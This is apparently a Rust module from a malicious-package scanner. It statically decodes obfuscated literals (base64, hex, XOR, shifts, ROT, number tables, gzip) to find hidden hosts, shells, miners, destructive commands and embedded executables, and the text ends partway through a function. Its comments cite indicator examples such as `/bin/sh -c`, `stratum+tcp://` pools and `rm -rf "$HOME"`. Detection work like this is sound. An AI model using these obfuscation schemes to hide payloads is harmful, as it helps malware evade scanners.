//! Static deobfuscation: decoding literals the way malicious code decodes them at run time.
//!
//! Base64 and hex strings, byte arrays, reversed strings, and single-byte XOR, shifted or reversed
//! bytes (when the code around them XORs, does character arithmetic or reverses) are decoded here,
//! and the result is judged by the same indicators as any literal. A certificate decodes to binary
//! DER and a test vector to noise; a string that decodes to `https://…workers.dev`, `/bin/sh -c`
//! or just `powershell` is hiding something: nobody spells a program's name in numbers for a good
//! reason. Decoded data that starts like a native executable is an embedded executable.

use crate::scan::HashMap;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::{alphabet, Engine};

use super::collector::classify_program;
use super::signal::{ProgramClass, SignalKind};
use super::text::{classify_host, literal_signals, shell_signals};
use super::vocabulary::{KNOWN_PLAINTEXTS, NETWORK_PROBES};

/// Shortest literal worth decoding: `aHR0cDovLw==` ("http://") is 12 characters.
const MIN_ENCODED_LEN: usize = 12;

/// Shortest decoded text taken for a program's name (`curl`, `bash`; not `sh`, `nc` or `id`, which
/// any short array turns into under some key), unless it is a path (`/bin/sh`).
const MIN_PROGRAM_LEN: usize = 4;

/// Most NUL-ended strings of one decoded value read one by one.
const MAX_PACKED_STRINGS: usize = 32;

/// What separates the fields of a packed configuration string.
const FIELD_SEPARATORS: &[u8] = b"|;";

/// Longest decoded text whose fields are read one by one (each field is read again).
const MAX_PACKED_TEXT: usize = 4096;

/// Shortest decoded data taken for an executable: a PE or ELF header alone is 64 bytes.
const MIN_EXECUTABLE_LEN: usize = 64;

/// Longest array or string brute-forced with every XOR key / shift.
const MAX_BRUTE_FORCE_LEN: usize = 4096;

/// Shortest blob called opaque.
const MIN_BLOB_LEN: usize = 256;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// What decoding hints the code around a literal gives.
#[derive(Debug, Clone, Copy, Default)]
pub struct Hints {
    /// The function XORs values.
    pub xor: bool,
    /// The function turns numbers into characters with arithmetic.
    pub char_arithmetic: bool,
    /// The function reverses a sequence (`.rev()`).
    pub reverse: bool,
}

impl Hints {
    /// Whether the code decodes anything at all.
    pub fn any(self) -> bool {
        self.xor || self.char_arithmetic || self.reverse
    }

    /// The hints of two pieces of code together.
    pub fn union(self, other: Hints) -> Hints {
        Hints {
            xor: self.xor || other.xor,
            char_arithmetic: self.char_arithmetic || other.char_arithmetic,
            reverse: self.reverse || other.reverse,
        }
    }
}

/// The signals hidden in a string literal: what it decodes to as base64, hex or reversed text.
pub fn string_signals(text: &str, hints: Hints) -> Vec<SignalKind> {
    cached(Decoding::Text, text.as_bytes(), hints, || {
        string_signals_uncached(text, hints)
    })
}

/// Which decoder a cached answer is from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Decoding {
    Text,
    Bytes,
}

/// Decoded answers kept for one scan (see [`forget_answers`]): a file walked as tokens and then
/// parsed hands the decoders the same literals twice, and brute-forcing them is the dearest part
/// of a scan.
/// Bounded, and cleared when full.
const CACHED_ANSWERS: usize = 4096;

type DecodeCache = HashMap<(Decoding, Vec<u8>, u8), Vec<SignalKind>>;

thread_local! {
    static ANSWERS: std::cell::RefCell<DecodeCache> = std::cell::RefCell::default();
}

/// Forgets the answers kept so far: a scan starts with none, so that what one package's
/// literals decoded to neither outlives its scan on a long-lived thread nor costs memory.
pub fn forget_answers() {
    ANSWERS.with(|answers| answers.borrow_mut().clear());
}

fn cached(
    decoding: Decoding,
    input: &[u8],
    hints: Hints,
    decode: impl FnOnce() -> Vec<SignalKind>,
) -> Vec<SignalKind> {
    // Short inputs cost less to decode than to look up.
    if input.len() < 16 {
        return decode();
    }
    let key = (
        decoding,
        input.to_vec(),
        u8::from(hints.xor) | u8::from(hints.char_arithmetic) << 1 | u8::from(hints.reverse) << 2,
    );
    if let Some(found) = ANSWERS.with(|answers| answers.borrow().get(&key).cloned()) {
        return found;
    }
    let found = decode();
    ANSWERS.with(|answers| {
        let mut answers = answers.borrow_mut();
        if answers.len() >= CACHED_ANSWERS {
            answers.clear();
        }
        answers.insert(key, found.clone());
    });
    found
}

fn string_signals_uncached(text: &str, hints: Hints) -> Vec<SignalKind> {
    let trimmed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if trimmed.len() >= MIN_ENCODED_LEN {
        let is_hex =
            trimmed.len().is_multiple_of(2) && trimmed.bytes().all(|b| b.is_ascii_hexdigit());
        if is_hex {
            if let Some(bytes) = decode_hex(&trimmed) {
                let found = decoded_signals("hex", &bytes, Strictness::Encoded);
                if !found.is_empty() {
                    return found;
                }
            }
        }
        let is_base64 = trimmed
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='));
        if is_base64 && !is_hex {
            for engine in [&STANDARD, &URL_SAFE] {
                if let Ok(bytes) = engine.decode(trimmed.trim_end_matches('=')) {
                    let found = decoded_signals("base64", &bytes, Strictness::Encoded);
                    if !found.is_empty() {
                        return found;
                    }
                }
            }
        }
    }
    if text.contains("//:") {
        let reversed: String = text.chars().rev().collect();
        let found = decoded_signals("reversed text", reversed.as_bytes(), Strictness::Encoded);
        if !found.is_empty() {
            return found;
        }
    }
    if hints.any() && text.len() >= MIN_PROGRAM_LEN && text.len() <= MAX_BRUTE_FORCE_LEN {
        return brute_force(text.as_bytes(), hints);
    }
    Vec::new()
}

/// The signals hidden in a literal byte array (or byte string): its bytes as text, as an
/// executable, or XORed/shifted when the code hints at it.
pub fn byte_signals(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
    cached(Decoding::Bytes, bytes, hints, || {
        byte_signals_uncached(bytes, hints)
    })
}

fn byte_signals_uncached(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
    if bytes.len() < MIN_PROGRAM_LEN {
        return Vec::new();
    }
    let found = decoded_signals("a byte array", bytes, Strictness::Encoded);
    if !found.is_empty() {
        return found;
    }
    if hints.any() && bytes.len() <= MAX_BRUTE_FORCE_LEN {
        return brute_force(bytes, hints);
    }
    Vec::new()
}

/// What `bytes` XORed with `key` repeated reveal: the multi-byte keys that single-byte guessing
/// cannot undo, when the key is in the code. The key may start anywhere in its cycle
/// (`bytes[i] ^ key[(i + phase) % key.len()]`): a table of strings packed with one key, each
/// from where the last left off or from its own index, starts each string at another phase.
pub fn repeating_key_signals(bytes: &[u8], key: &[u8]) -> Vec<SignalKind> {
    if key.is_empty() || key.iter().all(|k| *k == 0) {
        return Vec::new();
    }
    let mut buffer = vec![0u8; bytes.len()];
    for phase in 0..key.len() {
        if decode_into(&mut buffer, bytes, |i, b| b ^ key[(i + phase) % key.len()]) {
            let found = decoded_signals(
                &format!("bytes XORed with the key {key:02x?}"),
                &buffer,
                Strictness::Guessed,
            );
            if !found.is_empty() {
                return found;
            }
        }
    }
    Vec::new()
}

fn brute_force(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
    // Numbers as text (`1,000,000,000`, `2024-01-01`) stay numbers under a small key or shift,
    // and some of them then read as an IP address: chance, not a hidden destination.
    if bytes
        .iter()
        .all(|b| b.is_ascii_digit() || b.is_ascii_punctuation() || *b == b' ')
    {
        return Vec::new();
    }
    let mut buffer = vec![0u8; bytes.len()];
    if hints.reverse {
        buffer.copy_from_slice(bytes);
        buffer.reverse();
        let found = decoded_signals("reversed", &buffer, Strictness::Guessed);
        if !found.is_empty() {
            return found;
        }
    }
    if hints.xor {
        for key in 1..=255u8 {
            // A key of 0x20 only changes the case of letters: nothing is hidden that way.
            if !decode_into(&mut buffer, bytes, |_, b| b ^ key)
                || buffer.eq_ignore_ascii_case(bytes)
            {
                continue;
            }
            if !could_say_something(&buffer) {
                continue;
            }
            let found = guessed_signals(&buffer, || format!("bytes XORed with {key:#04x}"));
            if !found.is_empty() {
                return found;
            }
        }
    }
    if hints.char_arithmetic {
        for shift in (-32i16..=32).filter(|s| *s != 0) {
            let shifted = |_, b: u8| (i16::from(b) + shift).rem_euclid(256) as u8;
            if !decode_into(&mut buffer, bytes, shifted) || buffer.eq_ignore_ascii_case(bytes) {
                continue;
            }
            if !could_say_something(&buffer) {
                continue;
            }
            let found = guessed_signals(&buffer, || format!("characters shifted by {shift}"));
            if !found.is_empty() {
                return found;
            }
        }
        let found = rotated_address(bytes, &mut buffer);
        if !found.is_empty() {
            return found;
        }
    }
    Vec::new()
}

/// Whether a guessed decoding could name anything [`decoded_signals`] keeps of a guess: an
/// executable's header, a program's name or path, or text that reads like a path or URL
/// ([`is_wordy`]). Both of the last two are mostly letters, digits and the punctuation counted
/// here, so a guess that is not is skipped before the dearer readings (a tenth of the
/// brute-force decoder's work went to reading guesses that could say nothing). Strings packed
/// with NULs are read piece by piece, so they are always read.
fn could_say_something(decoded: &[u8]) -> bool {
    if decoded.contains(&0) || embedded_executable(decoded).is_some() {
        return true;
    }
    let wordy = decoded
        .iter()
        .filter(|b| b.is_ascii_alphanumeric() || b" ./:-_~\\\t\n\r".contains(b))
        .count();
    wordy * 100 >= decoded.len() * 85
}

/// [`decoded_signals`] of a guess, the name of the guess (`describe`) spelled out only when it
/// found something: hundreds of guesses a literal, few of them found.
fn guessed_signals(decoded: &[u8], describe: impl Fn() -> String) -> Vec<SignalKind> {
    if decoded_signals("", decoded, Strictness::Guessed).is_empty() {
        return Vec::new();
    }
    decoded_signals(&describe(), decoded, Strictness::Guessed)
}

/// Longest table of numbers searched for a known word.
const MAX_TABLE_LEN: usize = 4096;

/// Largest spacing between consecutive letters a table may use (`3 * c + 17` has 3).
const MAX_TABLE_SCALE: i64 = 16;

/// How a table keeps text in numbers, as known plaintext gives it away.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TableMap {
    /// `n = scale * c + offset`: a shift, a scaled code (`3 * c + 17`), an index into an alphabet
    /// that keeps letters in order.
    Affine { scale: i64, offset: i64 },
    /// Bytes XORed with a key that grows by `step` at each position, from `start` at the first
    /// (`b ^ (0x2b + 7 * i)`; a step of 0 is a single-byte key).
    XorProgression { start: u8, step: u8 },
}

impl TableMap {
    /// The character at `index` that `value` stands for, if a printable one.
    fn read(self, index: usize, value: i64) -> Option<u8> {
        let byte = match self {
            // In 128 bits: no table value or offset of 64 makes these overflow (`i64::MIN % -1`).
            TableMap::Affine { scale, offset } => {
                let c = i128::from(value) - i128::from(offset);
                let scale = i128::from(scale);
                (c % scale == 0)
                    .then(|| u8::try_from(c / scale).ok())
                    .flatten()
            }
            TableMap::XorProgression { start, step } => u8::try_from(value)
                .ok()
                .map(|b| b ^ start.wrapping_add(step.wrapping_mul(index as u8))),
        };
        byte.filter(|b| b.is_ascii_graphic() || *b == b' ')
    }

    fn describe(self) -> String {
        match self {
            TableMap::Affine { scale: 1, offset } => {
                format!("numbers shifted by {}", -i128::from(offset))
            }
            TableMap::Affine { scale, offset } => {
                format!("numbers computed as {scale} × character + {offset}")
            }
            TableMap::XorProgression { start, step } => {
                format!("bytes XORed with {start:#04x} + {step} × position")
            }
        }
    }
}

/// What a table of numbers hides, found by known plaintext: where some word of
/// [`KNOWN_PLAINTEXTS`] sits in it under a [`TableMap`], the whole table read back through the
/// same map. Needs no decoding function and no hint: the word's spacing, or its key's, is in the
/// numbers.
pub fn table_signals(values: &[i64]) -> Vec<SignalKind> {
    match table_map(values) {
        Some(map) => read_table(values, map),
        None => Vec::new(),
    }
}

/// A table read through the map [`table_map`] found in it (a known word spelled there).
pub fn read_table(values: &[i64], map: TableMap) -> Vec<SignalKind> {
    read_through(values, map, false)
}

/// The map under which some word of [`KNOWN_PLAINTEXTS`] appears in `values`, unless it is the
/// identity (plain text already says what it says).
pub fn table_map(values: &[i64]) -> Option<TableMap> {
    if values.len() < 6 || values.len() > MAX_TABLE_LEN {
        return None;
    }
    let bytes: Option<Vec<u8>> = values.iter().map(|v| u8::try_from(*v).ok()).collect();
    KNOWN_PLAINTEXTS.iter().find_map(|word| {
        find_affine(values, word.as_bytes())
            .filter(|(scale, offset)| (*scale, *offset) != (1, 0))
            .map(|(scale, offset)| TableMap::Affine { scale, offset })
            .or_else(|| find_xor_progression(bytes.as_deref()?, word.as_bytes()))
    })
}

/// A table read back through the map another table of its file gave away (the same code keeps
/// its host, its paths and its commands the same way): only when every number reads as a
/// printable character.
pub fn table_signals_with(values: &[i64], map: TableMap) -> Vec<SignalKind> {
    if values.len() < 4 || values.len() > MAX_TABLE_LEN {
        return Vec::new();
    }
    read_through(values, map, true)
}

fn read_through(values: &[i64], map: TableMap, whole: bool) -> Vec<SignalKind> {
    let mut decoded = Vec::with_capacity(values.len());
    for (index, value) in values.iter().enumerate() {
        match map.read(index, *value) {
            Some(byte) => decoded.push(byte),
            None if whole => return Vec::new(),
            None => decoded.push(b'?'),
        }
    }
    let encoding = map.describe();
    // The map is no guess among hundreds: a known word gave it away, so what it reads is
    // encoded text, read as such.
    let mut found = decoded_signals(&encoding, &decoded, Strictness::Encoded);
    // A table that spells a known word is hidden text whatever else it says; one read through
    // a sibling's map counts only for what it reveals.
    if !whole
        && !found
            .iter()
            .any(|k| matches!(k, SignalKind::HiddenIndicator { .. }))
    {
        found.push(SignalKind::HiddenIndicator {
            encoding,
            decoded: String::from_utf8_lossy(&decoded).into_owned(),
        });
    }
    found
}

/// The key schedule `start + step × position` (wrapping) under which `word`, XORed, appears in
/// `bytes`: the keys the word gives at its place must grow by one step each.
fn find_xor_progression(bytes: &[u8], word: &[u8]) -> Option<TableMap> {
    (0..=bytes.len().checked_sub(word.len())?).find_map(|at| {
        let key = |j: usize| bytes[at + j] ^ word[j];
        let step = key(1).wrapping_sub(key(0));
        let progression = (1..word.len()).all(|j| key(j).wrapping_sub(key(j - 1)) == step);
        // A zero key is plain text, not hidden.
        if !progression || (step == 0 && key(0) == 0) {
            return None;
        }
        let start = key(0).wrapping_sub(step.wrapping_mul(at as u8));
        Some(TableMap::XorProgression { start, step })
    })
}

/// The map `n = scale * c + offset` (scale 1 to [`MAX_TABLE_SCALE`], either sign) under which
/// `word` appears in `values`, if it does anywhere.
fn find_affine(values: &[i64], word: &[u8]) -> Option<(i64, i64)> {
    let (first, second) = (i64::from(word[0]), i64::from(word[1]));
    // Numbers come from the source as written: worked out in 128 bits, where no difference or
    // remainder of two 64-bit values overflows (`i64::MIN % -1` would panic).
    let (first, second) = (i128::from(first), i128::from(second));
    values.windows(word.len()).find_map(|window| {
        let letters = second - first;
        let numbers = i128::from(window[1]) - i128::from(window[0]);
        // The first two letters differ in every word of the list, so the spacing fixes the scale.
        if letters == 0 || numbers % letters != 0 {
            return None;
        }
        let scale = numbers / letters;
        if scale == 0 || scale.abs() > i128::from(MAX_TABLE_SCALE) {
            return None;
        }
        let offset = i128::from(window[0]) - scale * first;
        let matches = window
            .iter()
            .zip(word)
            .all(|(n, c)| scale * i128::from(*c) + offset == i128::from(*n));
        matches.then(|| Some((i64::try_from(scale).ok()?, i64::try_from(offset).ok()?)))?
    })
}

/// Caesar's family: letters rotated within the alphabet (ROT13 and the rest), digits within
/// 0–9 alongside (ROT18 is 13 and 5), everything else as it is.
///
/// Rotating ordinary text by every amount spells addresses by chance (a URL rotated by one reads
/// `iuuq://…`, and prose turns into anything), so only one shape counts: a literal with an
/// address's `://` but no `http` of its own, which some rotation turns into an `http://` or
/// `https://` address.
fn rotated_address(bytes: &[u8], buffer: &mut [u8]) -> Vec<SignalKind> {
    let Some(at) = memchr::memmem::find(bytes, b"://") else {
        return Vec::new();
    };
    let has_own_scheme = bytes.windows(4).any(|w| w.eq_ignore_ascii_case(b"http"));
    if has_own_scheme || at < 4 {
        return Vec::new();
    }
    for letters in 1..26u8 {
        let rotate = |b: u8| match b {
            b'a'..=b'z' => b'a' + (b - b'a' + letters) % 26,
            b'A'..=b'Z' => b'A' + (b - b'A' + letters) % 26,
            _ => b,
        };
        // The scheme decides the letters' rotation: only one can make it `http`.
        let scheme: Vec<u8> = bytes[at.saturating_sub(5)..at]
            .iter()
            .map(|b| rotate(*b).to_ascii_lowercase())
            .collect();
        if !(scheme.ends_with(b"http") || scheme.ends_with(b"https")) {
            continue;
        }
        for digits in [0, 5, letters % 10] {
            let rotated = |_, b: u8| match b {
                b'0'..=b'9' => b'0' + (b - b'0' + digits) % 10,
                _ => rotate(b),
            };
            if !decode_into(buffer, bytes, rotated) {
                continue;
            }
            let found = decoded_signals(
                &format!("letters rotated by {letters} and digits by {digits}"),
                buffer,
                Strictness::Guessed,
            );
            if !found.is_empty() {
                return found;
            }
        }
    }
    Vec::new()
}

/// What decoded bytes reveal: an executable, or printable text with an indicator in it. Empty when
/// they are noise or ordinary text.
/// Decodes `bytes` into `buffer` with `decode` (given each byte's index and value), and says whether the result could mean
/// anything to [`decoded_signals`]: an executable's header, or text printable enough for
/// [`is_printable`]. Stops as soon as too many bytes are unprintable, which is at once for nearly
/// every key tried on a literal: brute force costs little more than a look at each guess.
fn decode_into(buffer: &mut [u8], bytes: &[u8], decode: impl Fn(usize, u8) -> u8) -> bool {
    let mut head = [0u8; 4];
    for (i, (out, b)) in head.iter_mut().zip(bytes).enumerate() {
        *out = decode(i, *b);
    }
    let head = &head[..bytes.len().min(4)];
    let maybe_executable = bytes.len() >= MIN_EXECUTABLE_LEN
        && (head.starts_with(b"\x7fELF")
            || head.starts_with(b"MZ")
            || [[0xFE, 0xED, 0xFA], [0xCE, 0xFA, 0xED], [0xCF, 0xFA, 0xED]]
                .iter()
                .any(|magic| head.starts_with(magic)));
    let allowed = bytes.len() * 3 / 100;
    let mut unprintable = 0;
    for (i, (out, b)) in buffer.iter_mut().zip(bytes).enumerate() {
        *out = decode(i, *b);
        if !((0x20..0x7f).contains(out) || matches!(*out, b'\n' | b'\r' | b'\t')) {
            unprintable += 1;
            if unprintable > allowed && !maybe_executable {
                return false;
            }
        }
    }
    true
}

/// How a decoding was found, which decides how much of what it says counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Strictness {
    /// The literal is encoded on its face (base64, hex, numbers, a reversed URL): any indicator
    /// in it counts.
    Encoded,
    /// One of hundreds of keys and shifts tried on an ordinary literal: noise turns into a
    /// stray `nc` or `curl` in some of them, so only indicators no noise spells count (a
    /// destination, a secret's path, a persistence location, a miner, a program's exact name).
    Guessed,
}

/// The indicators worth hiding that `text` spells, read as strictly as a guessed decoding (a
/// destination, a secret's path, a persistence location, a pool; no bare network API): what
/// string pieces joined together say (`Collector::string_pieces`).
pub fn indicators(text: &str) -> Vec<SignalKind> {
    meaningful_signals(text, Strictness::Guessed)
}

/// The indicators in what one of the package's own functions returns for constant arguments
/// (`super::evaluate`): read as strictly as a literal encoded on its face, since the code itself
/// says how it is decoded.
pub fn computed_signals(bytes: &[u8], function: &str) -> Vec<SignalKind> {
    decoded_signals(
        &format!("what the package's function `{function}` computes from constants"),
        bytes,
        Strictness::Encoded,
    )
}

/// The indicators in text the code puts together from constants (`format!`, `concat!`,
/// `join`): read as a literal encoded on its face.
pub fn assembled_signals(bytes: &[u8]) -> Vec<SignalKind> {
    decoded_signals("constants put together", bytes, Strictness::Encoded)
}

fn decoded_signals(encoding: &str, bytes: &[u8], strictness: Strictness) -> Vec<SignalKind> {
    if let Some(format) = embedded_executable(bytes) {
        return vec![
            SignalKind::EmbeddedExecutable {
                what: format!("{format} data in {encoding}"),
            },
            SignalKind::HiddenIndicator {
                encoding: encoding.to_owned(),
                decoded: format!("an {format} executable"),
            },
        ];
    }
    if let Some(class) = hidden_program(bytes) {
        return vec![SignalKind::HiddenIndicator {
            encoding: encoding.to_owned(),
            decoded: format!(
                "{} ({})",
                String::from_utf8_lossy(bytes).trim(),
                match class {
                    ProgramClass::Shell => "a shell",
                    ProgramClass::Downloader => "a downloader",
                    ProgramClass::Persistence => "a persistence tool",
                    ProgramClass::Miner => "a miner",
                    _ => "a reconnaissance tool",
                }
            ),
        }];
    }
    // Several strings packed into one value, ended by NULs the way C lays out a table of
    // them (`"/proc/self/fd/\0[kworker]\0-o\0stratum+tcp://…"`): each is read on its own.
    if bytes.contains(&0) {
        let mut found = Vec::new();
        for piece in bytes
            .split(|&b| b == 0)
            .filter(|piece| !piece.is_empty() && !piece.contains(&0))
            .take(MAX_PACKED_STRINGS)
        {
            for kind in decoded_signals(encoding, piece, strictness) {
                if !found.contains(&kind) {
                    found.push(kind);
                }
            }
        }
        return found;
    }
    // Fields of a packed configuration (`198.51.100.23:3333|pool.example.net|mining.subscribe`,
    // `host=…;port=…`), each read on its own as well as the whole: an address is one field.
    if strictness == Strictness::Encoded && bytes.len() <= MAX_PACKED_TEXT {
        if let Some(&separator) = FIELD_SEPARATORS.iter().find(|s| bytes.contains(s)) {
            let mut found = unpacked_signals(encoding, bytes, strictness);
            for piece in bytes
                .split(|&b| b == separator)
                .filter(|piece| !piece.is_empty())
                .take(MAX_PACKED_STRINGS)
            {
                for kind in unpacked_signals(encoding, piece, strictness) {
                    if !found.contains(&kind) {
                        found.push(kind);
                    }
                }
            }
            return found;
        }
    }
    unpacked_signals(encoding, bytes, strictness)
}

/// [`decoded_signals`] for one string that holds no table of others.
fn unpacked_signals(encoding: &str, bytes: &[u8], strictness: Strictness) -> Vec<SignalKind> {
    if strictness == Strictness::Encoded {
        // A host name spelled in numbers or an encoding (a DNS zone to query, a server to
        // reach) is a destination hidden from readers, even without a scheme.
        if let Some(host) = std::str::from_utf8(bytes).ok().and_then(host_name) {
            if let Some(class) = classify_host(host, host) {
                return vec![
                    SignalKind::Destination {
                        target: host.to_owned(),
                        class,
                    },
                    SignalKind::HiddenIndicator {
                        encoding: encoding.to_owned(),
                        decoded: host.to_owned(),
                    },
                ];
            }
        }
    }
    if !is_printable(bytes) || !is_wordy(bytes, strictness) {
        return Vec::new();
    }
    let text = String::from_utf8_lossy(bytes);
    let mut found: Vec<SignalKind> = meaningful_signals(&text, strictness);
    if found.is_empty() {
        return found;
    }
    let shown: String = text.chars().take(80).collect();
    found.push(SignalKind::HiddenIndicator {
        encoding: encoding.to_owned(),
        decoded: shown,
    });
    found
}

/// The destination a host name the code assembles from its constants names
/// (`format!("{}.{}", LABEL, DOMAIN)`), hidden or not: the code fixed where it goes, even when
/// every part of it is spelled out somewhere.
pub fn assembled_destination(text: &str) -> Option<SignalKind> {
    let host = host_name(text)?;
    let class = classify_host(host, host)?;
    Some(SignalKind::Destination {
        target: host.to_owned(),
        class,
    })
}

/// `text` as a fully qualified host name (`_ch.notice.example.net.`), if it is one: at least
/// three labels of letters, digits, `-` and `_`, the last one a top-level name of letters; a
/// port may follow (`pool.example.org:4444`, what a socket connects to).
fn host_name(text: &str) -> Option<&str> {
    let text = text.trim();
    let host = match text.rsplit_once(':') {
        // Digits only: `parse` would take a `+`.
        Some((host, port))
            if port.bytes().all(|b| b.is_ascii_digit()) && port.parse::<u16>().is_ok() =>
        {
            host
        }
        _ => text,
    };
    let host = host.trim_end_matches('.');
    let labels: Vec<&str> = host.split('.').collect();
    let valid = |label: &&str| {
        (1..=63).contains(&label.len())
            && label
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    };
    let tld = labels.last()?;
    (labels.len() >= 3
        && labels.iter().all(valid)
        && (2..=18).contains(&tld.len())
        && tld.bytes().all(|b| b.is_ascii_lowercase()))
    .then_some(host)
}

/// The kind of program decoded bytes name, when they are exactly a program worth hiding — a shell,
/// a downloader, a persistence, reconnaissance or mining tool — alone or as the path to it.
/// Nothing else may be in the text: brute-forced noise must not turn into a program by containing
/// four letters of its name.
fn hidden_program(bytes: &[u8]) -> Option<ProgramClass> {
    let text = std::str::from_utf8(bytes).ok()?.trim();
    let is_path = text.contains(['/', '\\']);
    let base = text.rsplit(['/', '\\']).next().unwrap_or(text);
    let plausible = text
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"/\\._-:".contains(&b));
    if !plausible || base.is_empty() || (base.len() < MIN_PROGRAM_LEN && !is_path) {
        return None;
    }
    if is_path && !text.starts_with(['/', '\\']) && !text.contains(":\\") {
        return None;
    }
    // `ping` and `dig` are words as much as programs: brute-forced bytes (or a case change)
    // spell them too often to count as hidden.
    if NETWORK_PROBES.contains(&base.to_ascii_lowercase().as_str()) {
        return None;
    }
    match classify_program(text) {
        class @ (ProgramClass::Shell
        | ProgramClass::Downloader
        | ProgramClass::Persistence
        | ProgramClass::Recon
        | ProgramClass::Miner) => Some(class),
        _ => None,
    }
}

/// The indicators in decoded `text` that count at `strictness`.
///
/// A guess keeps only what the text names (a destination, a secret's path, …: what
/// [`literal_signals`] finds); what else a shell command says — a network tool, a pipe into a
/// shell, a deletion — is what noise spells. So a guess is read by `literal_signals` alone, not
/// the whole of [`shell_signals`]: the same answer (`guesses_need_only_literal_signals`) for a
/// fraction of the work, and a guess is what the brute force makes hundreds of per literal.
fn meaningful_signals(text: &str, strictness: Strictness) -> Vec<SignalKind> {
    let mut signals = match strictness {
        Strictness::Encoded => shell_signals(text),
        Strictness::Guessed => {
            let mut signals = literal_signals(text);
            // As `shell_signals` leaves them.
            signals.dedup();
            signals
        }
    };
    // What the package's own code decodes (not a guess at what noise might say) is read for
    // destruction as well: a deleting command line hidden this way is as telling as an address.
    let destroys = strictness == Strictness::Encoded
        && signals.iter().any(|kind| {
            matches!(
                kind,
                SignalKind::Destroy { .. }
                    | SignalKind::WipesHome { .. }
                    | SignalKind::WipesWorkingDirectory { .. }
            )
        });
    signals.retain(|kind| {
        (is_meaningful(kind)
            && (strictness == Strictness::Encoded || !matches!(kind, SignalKind::Network { .. })))
            || (destroys
                && matches!(
                    kind,
                    SignalKind::Destroy { .. }
                        | SignalKind::WipesHome { .. }
                        | SignalKind::WipesWorkingDirectory { .. }
                        | SignalKind::UserDirectory { .. }
                ))
    });
    signals
}

/// Indicators worth hiding: where data goes, which secrets are read, what persists, what mines.
/// Weaker ones (a `./path`, a `|sh` inside noise) are left out: brute-forced decodings of ordinary
/// data produce them by chance.
fn is_meaningful(kind: &SignalKind) -> bool {
    matches!(
        kind,
        SignalKind::Destination { .. }
            | SignalKind::SensitivePath { .. }
            | SignalKind::Persistence { .. }
            | SignalKind::Automation { .. }
            | SignalKind::AuthorizedKeys
            | SignalKind::EmbeddedSshKey
            | SignalKind::MiningPool { .. }
            | SignalKind::Wallet { strong: true, .. }
            | SignalKind::MinerFlag { .. }
            | SignalKind::MiningProtocol { .. }
            | SignalKind::BrowserMiner { .. }
            | SignalKind::Network { .. }
            | SignalKind::Clipboard { .. }
    )
}

/// Whether decoded bytes read like text someone wrote: printable, and mostly letters, digits and
/// the punctuation of paths and URLs.
///
/// What the package's own code decodes is no guess, and a command line's quotes, variables and
/// pipes count as its words (`rm -rf "$HOME"`); a guess at noise must look like a path or URL.
fn is_wordy(bytes: &[u8], strictness: Strictness) -> bool {
    let punctuation: &[u8] = match strictness {
        Strictness::Encoded => b" ./:-_~\\\"'$|&;*(){}=",
        Strictness::Guessed => b" ./:-_~\\",
    };
    let wordy = bytes
        .iter()
        .filter(|b| b.is_ascii_alphanumeric() || punctuation.contains(b))
        .count();
    wordy * 100 >= bytes.len() * 85
}

fn is_printable(bytes: &[u8]) -> bool {
    if bytes.len() < 6 {
        return false;
    }
    let printable = bytes
        .iter()
        .filter(|&&b| (0x20..0x7f).contains(&b) || matches!(b, b'\n' | b'\r' | b'\t'))
        .count();
    printable * 100 >= bytes.len() * 97
}

pub(super) fn decode_hex(text: &str) -> Option<Vec<u8>> {
    let digits = text.as_bytes();
    let value = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    digits
        .chunks(2)
        .map(|pair| Some(value(pair[0])? << 4 | value(pair[1])?))
        .collect()
}

/// The format of an executable embedded in a literal or a decoding: [`native_executable`], and
/// long enough to be one. Shorter than the headers it would need, `MZ` or `\x7fELF` is a
/// magic-number check (`buffer[..4] == [127, 69, 76, 70]`) or chance.
pub fn embedded_executable(bytes: &[u8]) -> Option<&'static str> {
    native_executable(bytes).filter(|_| bytes.len() >= MIN_EXECUTABLE_LEN)
}

/// The executable a package file is, read from its kept head
/// ([`wharf_tarball::FileEntry::head`]): as it is, or unpacked when it is a gzip stream (a
/// program shipped compressed as "data", then unpacked and run, is a dropper's way past a
/// look at the package's files).
pub fn shipped_executable(head: &[u8]) -> Option<&'static str> {
    if let Some(format) = native_executable(head) {
        return Some(format);
    }
    if !head.starts_with(&[0x1f, 0x8b]) {
        return None;
    }
    let mut unpacked = [0u8; 64];
    let mut filled = 0;
    let mut decoder = flate2::read::GzDecoder::new(head);
    // The head ends mid-stream: what unpacked before the end is enough.
    while filled < unpacked.len() {
        match std::io::Read::read(&mut decoder, &mut unpacked[filled..]) {
            Ok(0) | Err(_) => break,
            Ok(n) => filled += n,
        }
    }
    // Shorter than an ELF header's type field, nothing is told.
    (filled >= 20)
        .then(|| native_executable(&unpacked[..filled]))
        .flatten()
}

/// The native executable format bytes start with: ELF executables and shared objects (not
/// relocatable objects), PE, Mach-O. Also takes a file's first 64 bytes alone.
pub fn native_executable(bytes: &[u8]) -> Option<&'static str> {
    if bytes.starts_with(b"\x7fELF") {
        // e_type at offset 16, in the file's byte order: 2 executable, 3 shared object.
        let little = bytes.get(5) != Some(&2);
        let e_type = bytes.get(16..18).map(|b| {
            if little {
                u16::from_le_bytes([b[0], b[1]])
            } else {
                u16::from_be_bytes([b[0], b[1]])
            }
        });
        return matches!(e_type, Some(2 | 3) | None).then_some("ELF");
    }
    if bytes.starts_with(b"MZ") {
        let pe_offset = bytes
            .get(0x3c..0x40)
            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]));
